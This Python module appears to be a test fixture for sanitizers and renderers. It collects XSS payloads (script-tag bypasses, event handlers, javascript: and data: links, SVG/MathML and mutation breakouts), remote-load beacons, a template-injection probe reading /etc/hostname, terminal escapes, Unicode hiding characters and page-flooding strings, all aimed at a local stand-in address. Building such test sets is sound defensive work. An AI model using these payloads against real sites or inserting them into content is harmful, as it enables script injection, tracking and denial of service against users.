"""What strangers write: texts that run, load, lead away, hide or flood wherever they are taken for more than text."""

REMOTE = "http://127.0.0.1:9"
# what a payload does when it runs; the browser looks for the title and the server for the request
RUN = "document.title='PWNED';new(Image)().src='REMOTE/ran';0"

SCRIPTS = [
    "<script>RUN</script>",
    "<script type=module>RUN</script>",
    "<script src='REMOTE/script.js'></script>",
    "<ScRiPt >RUN</sCrIpT\n>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\x0c>RUN</script\x0c>",
    "<script/x>RUN</script/x>",
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "<<script>RUN//<</script>",
    "<!--[if true]><script>RUN</script><![endif]-->--><script>RUN</script>",
    '<!--><img src=x onerror="RUN">-->',
    "<script>RUN;alert(1)</script>",
    "<![CDATA[><script>RUN</script>]]><script>RUN</script>",
]
HANDLERS = [
    '<img src=x onerror="RUN">',
    '<IMG """><img/src="x"/onerror="RUN">',
    '<img src=x onerror\n=\n"RUN">',
    '<body onload="RUN" onpageshow="RUN">',
    '<input id=show-code onfocus="RUN" autofocus>',
    '<details open ontoggle="RUN"><summary>toggle</summary></details>',
    '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="RUN">moving</p>',
    '<p onpointerrawupdate="RUN" onmouseover="RUN" onclick="RUN">touch</p>',
    '<video onerror="RUN"><source src=x></video>',
    '<audio src=x onerror="RUN"></audio>',
    '<p tabindex=0 onfocusin="RUN" onbeforetoggle="RUN" popover>popover</p>',
    '<marquee onstart="RUN">marquee</marquee>',
    '<table background="REMOTE/table.png"><td onmouseover="RUN">cell</td></table>',
]
LINKS = [
    '<a href="javascript:RUN">javascript link</a>',
    '<a href=" &#1; JaVaScRiPt:RUN">padded link</a>',
    '<a href="&#106;ava&Tab;scr&NewLine;ipt&colon;RUN">encoded link</a>',
    '<a href="java\tscript:RUN">link with a tab</a>',
    '<a href="vbscript:RUN">vbscript link</a>',
    '<a href="data:text/html,<script>RUN</script>">data link</a>',
    '<a href="#top" ping="REMOTE/ping">ping link</a>',
    '<map name=m><area href="javascript:RUN"></map><img usemap="#m" src=x>',
    '<form action="javascript:RUN"><button>send</button></form>',
    '<form id=f action="REMOTE/form"></form><button form=f formaction="javascript:RUN">send</button>',
]
FOREIGN = [
    '<svg onload="RUN"><image href="REMOTE/svg.png"/></svg>',
    "<svg><script>RUN</script></svg>",
    "<svg><script href='REMOTE/svg.js'/></svg>",
    '<svg><style><img src=x onerror="RUN"></style></svg>',
    '<svg><foreignObject><iframe src="REMOTE/foreign"></iframe></foreignObject></svg>',
    '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>animated</text></a></svg>',
    '<svg><set attributeName=x onbegin="RUN"/></svg>',
    "<svg><use href='REMOTE/use.svg#x'/></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>RUN</script></svg>#x\"/></svg>",
    '<svg><filter id=f><feImage href="REMOTE/filter.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
    '<math><mi xlink:href="javascript:RUN">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror="RUN"></annotation-xml></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="RUN"></style></mglyph></table></mtext></math>',
]
STYLES = [
    "<style>@import 'REMOTE/import.css'; body { background: url(REMOTE/body.png) }</style>",
    "<p style=\"background:url('REMOTE/style.png');width:expression(RUN)\">styled</p>",
    "<style>main, h1 { display: none } body { width: 9000px }</style>",
    "<style>@font-face { font-family: f; src: url(REMOTE/font) } p { font-family: f }</style><p>font</p>",
    "<div id='top' class='sidebar' style='position:fixed;inset:0;z-index:9;background:red'>overlay</div>",
    "<link rel=stylesheet href='REMOTE/link.css'>",
    "</style></title></textarea></noscript></template></xmp></script><script>RUN</script>",
]
LOADS = [
    "<img src='REMOTE/image.png'>",
    "<img srcset='REMOTE/set.png 1x'><picture><source srcset='REMOTE/source.png'><img></picture>",
    "<video src='REMOTE/video' poster='REMOTE/poster.png' autoplay></video>",
    "<audio src='REMOTE/audio' autoplay></audio>",
    "<embed src='REMOTE/embed'><object data='REMOTE/object'></object>",
    "<iframe src='REMOTE/frame.html'></iframe>",
    '<iframe srcdoc="<script>top.RUN</script>"></iframe>',
    '<iframe src="javascript:parent.RUN"></iframe>',
    "<link rel=preload as=image href='REMOTE/preload.png'><link rel=prefetch href='REMOTE/prefetch'>",
    "<link rel=preconnect href='REMOTE/'><link rel=dns-prefetch href='REMOTE/'>",
    "<link rel=modulepreload href='REMOTE/module.js'>",
    "<link rel=icon href='REMOTE/icon.png'><link rel=manifest href='REMOTE/manifest'>",
    "<meta http-equiv=refresh content='0;url=REMOTE/refresh'>",
    "<base href='REMOTE/'><img src=based.png>",
    "<input type=image src='REMOTE/input.png'>",
    "<body background='REMOTE/background.png'>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["REMOTE/guess"]}]}</script>',
]
BREAKOUTS = [
    "</title><script>RUN</script>",
    '</textarea><img src=x onerror="RUN">',
    "'\"></td></tr></table></main></body><script>RUN</script>",
    '<template><img src=x onerror="RUN"></template><template shadowrootmode=open><img src=x onerror="RUN"></template>',
    '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "<p title='</style><script>RUN</script><h2>'>mutated</p>",
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN"></style></mglyph></form>',
    '<select><iframe></select><img src=x onerror="RUN">',
    '<plaintext><img src=x onerror="RUN">',
    "&lt;script&gt;RUN&lt;/script&gt; &amp;lt;img src=x onerror=RUN&amp;gt;",
]
MARKUP = [
    "![image](REMOTE/markdown.png) [![nested](REMOTE/nested.png)](javascript:RUN)",
    "[link](javascript:RUN) [tab](java&#9;script:RUN) [angle](<javascript:RUN>)",
    "<javascript:RUN> <REMOTE/auto> REMOTE/bare",
    "[reference][r] ![picture][i]\n\n[r]: javascript:RUN\n[i]: REMOTE/reference.png",
    '# heading <img src=x onerror="RUN">\n\n* item\n\n      <script>RUN</script>',
    '[title](https://example.org "onmouseover=RUN") `<script>RUN</script>`',
    "$\\href{javascript:RUN}{x}$ $$\\require{html}\\style{background:url(REMOTE/tex.png)}{x}$$ \\(\\unsafe{\\)",
    "$\\frac{1$ and $\\undefined{x}$ for $5",
    "{{ 7*7 }} {% include '/etc/hostname' %} ${7*7} #{7*7} <%= 7*7 %> {# note #}",
]
TERMINALS = [
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H \x1b]0;title\x07",
    "\x1b]8;;REMOTE/osc8\x1b\\terminal link\x1b]8;;\x1b\\ \x1b]8;;javascript:RUN\x07bell\x1b]8;;\x07",
]
HIDING = [
    "\u202egnirts\u202c \u2066isolate\u2069 \u200fmark\u200e \u061c",
    "zero\u200b\u2060\ufeff\u00adwidth \U000e0041\U000e0042 tags \u2028 line \u2029 paragraph",
    "\x00null \x08back \x0bvertical \x7fdelete \x85next \x9bcsi",
    "lone \ud800 surrogates \udfff\udc80",
]
PILED = "zalgo\u0301" + "\u0336\u0489\u20dd" * 3_000
LONG_WORD = "longword" + "W" * 2_000
DEEP = "<blockquote>" * 150 + "deep" + "</blockquote>" * 150
SUMMARY = f"<details open><summary>summary{'W' * 2_000}</summary></details>"
TALL = "<svg xmlns='http://www.w3.org/2000/svg' width='100' height='1000000'><rect width='9' height='9'/></svg>"
NEWLINES = "newlines" + "\n" * 100_000 + "end"
BREAKS = "breaks" + "<br>" * 3_000
LINE = "line" + "x" * 5_000_000

ALL = [
    *SCRIPTS,
    *HANDLERS,
    *LINKS,
    *FOREIGN,
    *STYLES,
    *LOADS,
    *BREAKOUTS,
    *MARKUP,
    *TERMINALS,
    *HIDING,
]


def payloads(remote: str = REMOTE) -> list[str]:
    """Every short payload, each with its number in the address that it asks for."""
    return [
        text.replace("RUN", RUN).replace("REMOTE", f"{remote}/{n}") for n, text in enumerate(ALL)
    ]


def floods() -> list[str]:
    """Texts that break a page by their size alone."""
    return [PILED, LONG_WORD, DEEP, SUMMARY, TALL, NEWLINES, BREAKS, LINE]
